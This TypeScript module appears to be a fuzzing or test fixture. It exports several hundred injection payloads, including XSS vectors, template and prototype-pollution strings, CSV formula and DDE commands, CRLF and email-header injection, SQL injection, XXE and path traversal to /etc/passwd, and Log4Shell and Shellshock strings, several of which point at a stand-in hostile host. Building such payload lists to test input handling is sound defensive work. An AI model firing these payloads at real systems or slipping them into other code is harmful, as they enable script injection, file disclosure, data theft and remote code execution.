import { call, elements, home, hostileHost, run } from './elements.ts'

/** A text that would do something where it is taken for anything but text. */
export type Payload = { kind: string; text: string }

const backslash = String.fromCharCode(92)
const codes = (text: string, each: (code: number) => string) =>
  [...text].map((sign) => each(sign.codePointAt(0) ?? 0)).join('')

const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `javascript://%0a${call}`,
  `javascript://${hostileHost}/%0a${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  ` javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${call}>*/`,
  `vbscript:msgbox(1)`,
  `livescript:${call}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${run}"/>`,
  `data:text/javascript,${run}`,
  `blob:https:${home}`,
  `filesystem:https:${home}`,
  `view-source:https:${home}`,
  `file:///etc/passwd`,
  `https:${home}"onmouseover="${call}`,
  `https:${home}'><img src=x onerror=${call}>`,
  `https:${home}?q=<script>${run}</script>`,
  `https://user:pass@${hostileHost}/`,
  `https:${home}#"><svg onload=${call}>`,
  `http://localhost:1@${hostileHost}`,
  `https:${backslash}${backslash}${hostileHost}`,
  `//${hostileHost}`,
  `${backslash}${backslash}${hostileHost}${backslash}share`,
  `ws://${hostileHost}/`,
  `ftp://${hostileHost}/`,
  `tel:"><img src=x onerror=${call}>`,
  `mailto:a@b.example?body=<script>${run}</script>`,
  `intent://${hostileHost}#Intent;scheme=http;end`,
]

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus tabindex=1 x',
  'onmouseover',
  'onanimationstart',
]
const quotes = ['"', "'", '`', ' ', '&quot;', '&#39;', '\u0022 ', '%22', `${backslash}"`, '\u2028"']

/** Out of an attribute's value and into another attribute. */
const attributes = handlers.flatMap((handler) =>
  quotes.map((quote) => `x${quote}${handler}=${call}${quote.trim() === '' ? ' x' : ` y=${quote}`}`),
)

const css = [
  `x;background:url(https:${home})`,
  `expression(${call})`,
  `</style><svg onload=${call}>`,
  `@import 'https:${home}';`,
  `red;-moz-binding:url(${home})`,
  `url(javascript:${call})`,
  `x}body{display:none}`,
  `x}*{background:url(https:${home})}`,
  `<style>*{display:none!important}</style>`,
  `<div style="position:fixed;inset:0;background:red;z-index:9999">`,
  `<p style=animation-name:x onanimationstart=${call}>`,
  `${backslash}3c script${backslash}3e ${call}`,
  `#fff;behavior:url(${home})`,
]

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `{%raw%}${call}{%endraw%}`,
  `{{7*7}}[[7*7]]`,
  `[[\${T(java.lang.Runtime)}]]`,
  `{{$on.constructor('${call}')()}}`,
  `<x v-html="'<img src=x onerror=${call}>'">`,
  `<x ng-app ng-csp>{{$eval.constructor('${call}')()}}`,
  `<x x-init="${call}">`,
  `<x hx-on:load=${call}>`,
  `@(${call})`,
  `{@html '<img src=x onerror=${call}>'}`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${call}>"}}`,
  `%s%d%n%x %c<b>`,
]

const markdown = [
  `[x](javascript:${call})`,
  `![x](https:${home}.png)`,
  `![x](x"onerror="${call})`,
  `[x]: javascript:${call}`,
  `<javascript:${call}>`,
  `[x](data:text/html,<script>${run}</script>)`,
  '```html\n<script>window.__xss=1</script>\n```',
  `**<img src=x onerror=${call}>**`,
  `| <svg onload=${call}> | x |`,
  `[x](https:${home} "onmouseover=${call}")`,
  `> <script>${run}</script>`,
  `<details><summary>x</summary><img src=x onerror=${call}></details>`,
]

const unicode = [
  `\u202E>tpircs/<1=ssx__.wodniw>tpircs<`,
  `\u2066<script>\u2069${run}</script>`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
  `\u02B9><img src=x onerror=${call}>`,
  `<\u200Bscript>${run}</script>`,
  `<scr\u00ADipt>${run}</script>`,
  `<img\u2028src=x\u2028onerror=${call}>`,
  `<img\u00A0src=x\u00A0onerror=${call}>`,
  `<\u017Fcript>${run}</\u017Fcript>`,
  `\u{1F600}<svg onload=${call}>\u{1F468}\u200D\u{1F469}`,
  `${'Z\u0351\u0357\u030A\u0304'.repeat(12)}`,
  `\uFEFF<script>${run}</script>`,
  `${'\u202E'.repeat(20)}x`,
  `\u0130<\u0131mg src=x onerror=${call}>`,
  `\uFDFD\uFDFD\uFDFD<svg onload=${call}>`,
  `<script>${run}</script>\u2029`,
]

const entities = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `&#x3c;svg onload=${call}&#x3e;`,
  `&#0000060script&#0000062${run}`,
  `&NewLine;&Tab;<img src=x onerror=${call}>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%253Cscript%253E${run}`,
  `${backslash}u003cscript${backslash}u003e${run}${backslash}u003c/script${backslash}u003e`,
  `${backslash}x3cimg src=x onerror=${call}${backslash}x3e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  codes(`<img src=x onerror=${call}>`, (code) => `&#${code};`).slice(0, 190),
  codes(`<svg onload=1>`, (code) => `${backslash}u${code.toString(16).padStart(4, '0')}`),
]

const inScript = [
  `";${run};//`,
  `';${run};//`,
  `\`;${run};//`,
  `${backslash}";${run};//`,
  `"-${call}-"`,
  `'-${call}-'`,
  `</script><!--<script>${run}`,
  `<!--<script>`,
  `"}],"x":[{"y":"<script>${run}</script>`,
  `\u2028${run}\u2029`,
  `*/${run}/*`,
  `"};${run};var x={"a":"`,
  `${backslash}`,
  `"+${call}+"`,
  `throw onerror=alert,1`,
  `<script type=application/json>{"x":"</script><svg onload=${call}>"}</script>`,
]

const policy = [
  `<script src=/widget.js data-key=x></script>`,
  `<script nonce=x>${run}</script>`,
  `<link rel=preload as=script href=${home}>`,
  `<script src="/api/v1/leads?callback=${run}"></script>`,
  `<iframe srcdoc="<script src=/widget.js></script>">`,
  `<base href=//${hostileHost}><script src=/widget.js></script>`,
  `<script src=data:,${run}></script>`,
  `<meta name=referrer content=unsafe-url>`,
  `<img src="https:${home}?`,
  `<a href="https:${home}"><font size=100 color=red>Sign in again</font></a>`,
]

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  '{"__proto__":{"x":1}}',
  'constructor[prototype][x]=1',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  'true',
]

const formulas = [
  `=HYPERLINK("https:${home}","x")`,
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)`,
  `=cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `;=1+1`,
  `"=1+1","=1+1"`,
  `=IMPORTXML("https:${home}","//a")`,
  `%0A=1+1`,
]

const lines = [
  `x\r\nBcc: all@${hostileHost}`,
  `x\nSubject: taken over`,
  `x%0d%0aSet-Cookie: a=b`,
  `x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  `"x" <a@b.example>, <c@${hostileHost}>`,
  `x\u0085Bcc: all@${hostileHost}`,
  `x\u2028Bcc: all@${hostileHost}`,
  `=?utf-8?q?<script>${run}</script>?=`,
  `\u001b[31mred\u001b[0m`,
  `\u001b]0;taken over\u0007`,
  `\u001b[2J\u001b[H`,
  `\u001b]8;;https:${home}\u001b${backslash}x`,
  `\u009b31mred`,
  `x\u0008\u0008\u0008y`,
  `x\u007fy\u0000`.slice(0, 3),
  `x\r2026-01-01T00:00:00.000Z error forged`,
  `x\n2026-01-01T00:00:00.000Z info forged`,
  `x\u000b\u000cy`,
]

const shapes = [
  `../../../../etc/passwd`,
  `..${backslash}..${backslash}windows`,
  `'; drop table lead; --`,
  `' or 1=1 --`,
  `%' escape '%`,
  `$1 $$ \${1}`,
  `${'<'.repeat(60)}`,
  `${'"'.repeat(60)}`,
  `&`.repeat(60),
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<?php ${call} ?>`,
  `<esi:include src=https:${home} />`,
  `<!--#include virtual="/etc/passwd"-->`,
  `\${jndi:ldap:${home}}`,
  `() { :;}; echo x`,
  `| ls`,
  `<x>`.repeat(20),
]

const groups: Record<string, readonly string[]> = {
  ...elements,
  url: urls,
  attribute: attributes,
  css,
  template: templates,
  markdown,
  unicode,
  entity: entities,
  inScript,
  policy,
  names,
  formulas,
  lines,
  shapes,
}

/** All of them, in the order of their kinds. */
export const payloads: readonly Payload[] = Object.entries(groups).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
)
